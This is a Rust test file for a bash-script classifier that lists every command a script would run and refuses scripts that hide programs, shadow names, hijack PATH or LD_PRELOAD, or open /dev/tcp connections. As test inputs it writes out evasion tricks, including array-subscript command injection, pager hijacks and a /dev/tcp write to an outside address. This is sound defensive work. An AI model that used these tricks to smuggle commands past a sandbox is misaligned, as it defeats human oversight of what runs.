//! Scripts and what they run, as tables.

use super::*;

const HERE: ByName<'static> = ByName { directory: "/w" };

/// Knows three programs.
struct Few;

impl Programs for Few {
    fn named(&self, name: &str) -> Program {
        HERE.named(name)
    }
    fn at(&self, path: &str, standing: Standing) -> Program {
        HERE.at(path, standing)
    }
    fn exists(&self, name: &str) -> bool {
        ["ls", "git", "evil"].contains(&name)
    }
}

/// The calls as short text: `program subcommand`, free ones in brackets.
fn calls(script: &str) -> Vec<String> {
    let classified = classify(script, &Few).unwrap_or_else(|refusal| panic!("{script}: {refusal}"));
    let shown = |call: &Call| if call.needs == Needs::Nothing { format!("({})", call.shown()) } else { call.shown() };
    classified.calls.iter().map(shown).collect()
}

fn one(script: &str) -> Call {
    let classified = classify(script, &HERE).unwrap_or_else(|refusal| panic!("{script}: {refusal}"));
    assert_eq!(classified.calls.len(), 1, "{script}: {classified:?}");
    classified.calls.into_iter().next().unwrap()
}

fn refusal(script: &str) -> &'static str {
    match classify(script, &Few) {
        Err(refusal) => refusal.rule(),
        Ok(classified) => panic!("{script}: {classified:?}"),
    }
}

fn set(words: &[&str]) -> BTreeSet<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

#[test]
fn every_simple_command_is_found_however_nested() {
    let check = |script: &str, expected: &[&str]| assert_eq!(calls(script), expected, "{script}");
    check("a; b && c || d | e |& f & g\nh", &["a", "b", "c", "d", "e", "f", "g", "h"]);
    check("( a; { b; } )", &["a", "b"]);
    check("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]);
    check("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]);
    check("for x in $(a) b; do c $x; done", &["a", "c"]);
    check("for ((i=$(a); i<$(b); i+=$(c))); do d; done", &["a", "b", "c", "d"]);
    check("case $(a) in $(b)) c;; *) d;& e) f;;& esac", &["a", "b", "c", "d", "f"]);
    check("echo $(a $(b)) `c \\`d\\`` \"$(e)\" \"`f`\"", &["b", "a", "d", "c", "e", "f", "echo"]);
    check("cat <(a) >(b)", &["a", "b", "cat"]);
    check("c > >(a) < <(b)", &["a", "b", "c"]);
    check("echo ${x:-$(a)} ${y:=$(b)} ${z/$(c)/$(d)} ${w#$(e)} ${v:$(f)} ${u[$(g)]}", &["a", "b", "c", "d", "e", "f", "g", "echo"]);
    check("echo $((1+$(a))) $(( x[$(b)] ))", &["a", "b", "echo"]);
    check("(( x = $(a) ))", &["a"]);
    check("[[ -n $(a) && $(b) == $(c) ]]", &["a", "b", "c"]);
    check("x=$(a) y=(1 $(b)); z[$(c)]=$(d)", &["a", "b", "c", "d"]);
    check("a <<E\n$(b)\n`c` it's\nE\nd", &["b", "c", "a", "d"]);
    check("a <<E\n\"$(b)\" '$(c)'\nE", &["b", "c", "a"]);
    check("a <<'E'\n$(b)\nE\nc", &["a", "c"]);
    check("git commit -m \"$(cat <<'E'\nit's (done) $(x)\nFixes #12\nE\n)\"", &["cat", "git commit"]);
    check("a <<< $(b)", &["b", "a"]);
    check("! a | b; time c", &["a", "b", "c"]);
    check("helper() { a; }; helper x; other() ( b )", &["a", "(:)", "b"]);
    check("main() { late; }; late() { a; }; main", &["(:)", "a", "(:)"]);
    check("true; : x; false; exit 1", &["(true)", "(:)", "(false)", "(exit)"]);
    check("", &[]);
    check("# only words", &[]);
    check("x=1", &[]);
    check("{ a; } > f", &["(:)", "a"]);
    check("echo ok \\\n; a", &["echo", "a"]);
    check("echo \"$(: # )\n a\n)\"", &["(:)", "a", "echo"]);
    check("coproc a", &["a"]);
}

#[test]
fn wrappers_are_seen_through() {
    let check = |script: &str, expected: &[&str]| assert_eq!(calls(script), expected, "{script}");
    check("env -u B A=1 evil x", &["env", "evil"]);
    check("env -i evil", &["env", "evil"]);
    check("env -S 'evil x'", &["env", "env", "evil"]);
    check("env", &["env"]);
    check("timeout -k 5 --signal=KILL 10 evil", &["timeout", "evil"]);
    check("nice -n 5 nice -5 ionice -c2 nohup setsid -w stdbuf -oL evil", &["nice", "nice", "ionice", "nohup", "setsid", "stdbuf", "evil"]);
    check("command evil; builtin echo; exec evil; command -v evil", &["command", "evil", "builtin", "echo", "exec", "evil", "command"]);
    check("xargs -0 -n1 evil", &["xargs", "evil"]);
    check("xargs", &["xargs", "echo"]);
    check("sudo -u root A=b git push", &["sudo", "git push"]);
    check("sh -c 'a; b $(c)'", &["sh", "a", "c", "b"]);
    check("bash -xec 'a' name arg", &["bash", "a"]);
    check("bash -o pipefail -c 'a'", &["bash", "a"]);
    check("/usr/bin/env /bin/sh -c a", &["/usr/bin/env", "/bin/sh", "a"]);
    check("eval a 'b; c'", &["eval", "a", "c"]);
    check("trap 'a; b' EXIT; trap - INT", &["trap", "a", "b", "trap"]);
    check("find . -exec a {} \\; -execdir b {} + -ok c \\;", &["find", "a", "b", "c"]);
    check("find . -name x -exec sh -c 'a \"$1\"' _ {} \\;", &["find", "sh", "a"]);
    check("flock f evil; flock -c 'evil x' f; flock f -c evil", &["flock", "evil", "flock", "evil", "flock", "evil"]);
    check("watch -n 1 'a | b'", &["watch", "a", "b"]);
    check("script -qc evil /dev/null", &["script", "evil"]);
    check("busybox awk x", &["busybox", "awk"]);
    check("mapfile -C evil -c 1 x", &["mapfile", "evil"]);
    check("tar -x --to-command=a --use-compress-program 'b -c' -f x", &["tar", "a", "b"]);
    check("tar -x --to-com=a", &["tar", "a"]);
    check("sort --compress-program=a; rg --pre b x; man -P 'c -d' ls; man -Pe ls", &["sort", "a", "rg", "b", "man", "c", "man", "e"]);
    check("git grep -Oevil x; git rebase --exec 'make test' main", &["git grep", "evil", "git rebase", "make"]);
    check("xargs -I{} cp {} d", &["xargs", "cp"]);
}

#[test]
fn what_hides_a_program_is_refused() {
    for script in [
        "$x",
        "${x}il",
        "\"$x\" a",
        "$(echo evil)",
        "`evil`x",
        "{evil,}",
        "ev*",
        "e[v]il",
        "~/x",
        "$'\\x65vil'",
        "env $x",
        "env \"$x\"",
        "timeout $t evil",
        "sh -c \"$x\"",
        "bash -c $x",
        "eval $x",
        "eval \"$x\"",
        "xargs -I{} {}",
        "xargs -I{} sh -c {}",
        "find . -exec $x \\;",
        "trap \"$x\" EXIT",
        "timeout --unknown 5 evil",
        "env --unknown evil",
        "nice --what evil",
        "sudo --weird evil",
        "env -S \"$x\"",
        "watch $x",
        "tar --to-command=$x",
        "sort --compress-program \"$x\"",
        "$0",
        "\"$@\"",
        "command $x",
        "exec $x",
        "nohup $x",
        "env -S 'a${b}'",
    ] {
        assert_eq!(refusal(script), "script-hidden-program", "{script}");
    }
}

#[test]
fn text_that_bash_evaluates_later_is_refused() {
    for script in [
        "test -v 'a[$(evil)]'",
        "[ -v 'a[`evil`]' ]",
        "[[ 'a[$(evil)]' -eq 0 ]]",
        "printf -v 'a[$(evil)0]' x",
        "x='a[$(evil)]'; echo $((x))",
        "let 'a[$(evil)]'",
        "declare 'a[$(evil)]=1'",
        "read 'a[$(evil)]'",
        "unset 'a[$(evil)]'",
        "echo ${!x}",
        "echo ${x@P}",
        "echo \"${x:-'$(evil)'}\"",
        "export 'x=a[$(evil)]'",
        "for x in 'a[$(evil)]'; do echo $((x)); done",
    ] {
        assert_eq!(refusal(script), "script-hidden-text", "{script}");
    }
}

#[test]
fn names_and_variables_keep_their_meaning() {
    for script in [
        "ls() { a; }",
        "function git { a; }",
        "echo() { a; }",
        "alias ls=evil",
        "alias x='evil'",
        "hash -p /tmp/evil ls",
        "timeout() { a; }",
    ] {
        assert_eq!(refusal(script), "script-shadow", "{script}");
    }
    for script in [
        "PATH=/tmp",
        "PATH=/tmp ls",
        "export PATH=/tmp",
        "export 'PATH=/tmp'",
        "declare -x LD_PRELOAD=x",
        "LD_PRELOAD=x ls",
        "GIT_PAGER=evil git log",
        "env PATH=x ls",
        "read PATH",
        "for PATH in x; do ls; done",
        "printf -v PATH x",
        "IFS=, x",
        "IFS=,",
        "declare -n r=PATH",
        "typeset -n r",
        "export $x",
        "declare \"$x\"",
        "read $x",
        "PATH+=:/tmp",
        "PATH[0]=x",
        "env BASH_FUNC_ls%%=x ls",
        "set -k",
        "set -o keyword",
        "sudo LD_PRELOAD=x ls",
        "local PAGER=evil",
        "readonly ENV=x",
        "mapfile PATH",
        "getopts x PATH",
        "echo ${PATH:=x}",
        "unset PATH",
        "X_PAGER=evil ls",
        "PYTHONPATH=. x",
    ] {
        assert_eq!(refusal(script), "script-variable", "{script}");
    }
    for script in [
        "FOO=1 ls",
        "export FOO=$x",
        "while IFS= read -r line; do echo $line; done",
        "NODE_ENV=test npm test",
        "x=1 y=2",
        "declare -a list=(a b)",
        "local x=$1",
        "alias",
        "hash -r",
        "set -euo pipefail",
    ] {
        assert!(classify(script, &Few).is_ok(), "{script}: {:?}", classify(script, &Few));
    }
}

#[test]
fn limits_and_bad_text_are_refused() {
    assert_eq!(refusal(&"x".repeat(MAX_SCRIPT + 1)), "script-limit");
    assert_eq!(refusal(&"a;".repeat(MAX_CALLS + 1)), "script-limit");
    assert_eq!(refusal(&("(".repeat(500) + "a" + &")".repeat(500))), "script-limit");
    assert_eq!(refusal(&("if ".repeat(500) + "a" + &"; then b; fi".repeat(500))), "script-limit");
    assert_eq!(refusal(&("env ".repeat(500) + "a")), "script-limit");
    for script in [
        "(",
        "if a",
        "a )",
        "'",
        "\"",
        "echo $(",
        "a && ",
        "| a",
        "a\0b",
        "a\rb",
        "echo \u{1b}\u{0}",
        "a;;b",
        "<",
        "\"\"",
        "( (evil) )",
        "((evil) )",
        "echo !(x)",
        "99999999999>x",
        "ls ~99999999999999999999999",
        "select x in y; do z; done",
    ] {
        assert_eq!(refusal(script), "script-unparsable", "{script:?}");
    }
    assert_eq!(refusal("echo x > /dev/tcp/198.51.100.7/443"), "script-connection");
    assert_eq!(refusal("exec 3<>/dev/udp/$h/53"), "script-connection");
}

#[test]
fn words_become_flags_operands_and_subcommands() {
    let call = one("git --no-pager -C dir log --oneline --format='%h %s' -n5 HEAD~1 -- path");
    assert_eq!((call.subcommand.as_str(), call.opaque, call.count), ("log", false, 10));
    assert_eq!(call.operands, set(&["dir", "HEAD~1", "path"]));
    assert_eq!(call.flags, set(&["--no-pager", "-C", "--oneline", "--format", "-n5", "-n", "-5"]));
    let check = |script: &str, subcommand: &str, opaque: bool| {
        let call = one(script);
        assert_eq!((call.subcommand.as_str(), call.opaque), (subcommand, opaque), "{script}");
    };
    check("git --unknown log", "", true);
    check("git -c core.pager=evil log", "", true);
    check("git -c user.name=me commit", "commit", false);
    check("git -c user.name=\"$x\" commit", "commit", true);
    check("git -c user.name=$x commit", "", true);
    check("git -c $x log", "", true);
    check("git $x", "", true);
    check("git --git-dir=\"$x\" log", "log", true);
    check("git --exec-path=/tmp log", "", true);
    check("git commit -c HEAD", "commit", false);
    check("git", "", false);
    check("ls log", "", false);
    check("cargo --config x check", "", true);
    check("cargo +nightly publish", "publish", false);
    check("cargo +nightly --config x check", "", true);
    check("cargo -q +nightly publish", "+nightly", false);
    check("git +x log", "+x", false);
    check("kubectl -n prod get pods", "get", false);
    check("ls *.md", "", true);
    check("ls {}", "", false);
    check("echo $HOME", "", true);
    check("sed -f x y", "", true);
    check("bash x.sh", "", true);
    check("source x", "", true);
    assert_eq!(one("[ -f x ]"), Call { flags: set(&["-f"]), operands: set(&["x"]), count: 2, ..Call::of("test") });
    assert_eq!(one("./run a").program, "/w/run");
    assert_eq!(one("/usr/../bin/ls").program, "/bin/ls");
}

#[test]
fn after_a_change_of_directory_a_relative_path_is_only_what_it_says() {
    let script = classify("cd x && ./run; ../b", &HERE).unwrap();
    let programs: Vec<(&str, bool)> = script.calls.iter().map(|call| (call.program.as_str(), call.opaque)).collect();
    assert_eq!(programs, [("cd", false), ("./run", true), ("../b", true)]);
}

#[test]
fn files_of_redirects_and_options_are_known() {
    let check = |script: &str, reads: &[&str], writes: &[&str], opaque: bool| {
        let call = one(script);
        assert_eq!((call.reads, call.writes, call.opaque), (set(reads), set(writes), opaque), "{script}");
    };
    check("a <b >c 2>>d", &["b"], &["c", "d"], false);
    check("a &>b", &[], &["b"], false);
    check("a >|b", &[], &["b"], false);
    check("a 1<>b", &["b"], &["b"], false);
    check("a >&b", &[], &["b"], false);
    check("a 2>&1 >&- <&0", &[], &[], false);
    check("a >$x", &[], &[], true);
    check("git diff --output=x", &[], &["x"], false);
    check("git diff --outp x", &[], &["x"], false);
    check("sort -ox", &[], &["x"], false);
    check("find . -fprint x", &[], &["x"], false);
    check("dd if=a of=b", &["a"], &["b"], false);
    check("> f", &[], &["f"], false);
}

#[test]
fn arguments_that_no_shell_reads_are_literal() {
    let argv = [Some("git"), Some("log"), Some("$(evil)"), Some("a;b"), None];
    let script = classify_argv(&argv, &HERE).unwrap();
    assert_eq!(script.calls.len(), 1);
    let call = &script.calls[0];
    assert_eq!((call.subcommand.as_str(), call.opaque, call.operands.clone()), ("log", true, set(&["$(evil)", "a;b"])));
    assert_eq!(classify_argv(&[Some("bash"), Some("-c"), Some("a | b")], &HERE).unwrap().calls.len(), 3);
    assert_eq!(classify_argv(&[], &HERE).unwrap().calls.len(), 0);
    assert!(classify_argv(&[None], &HERE).is_err());
}
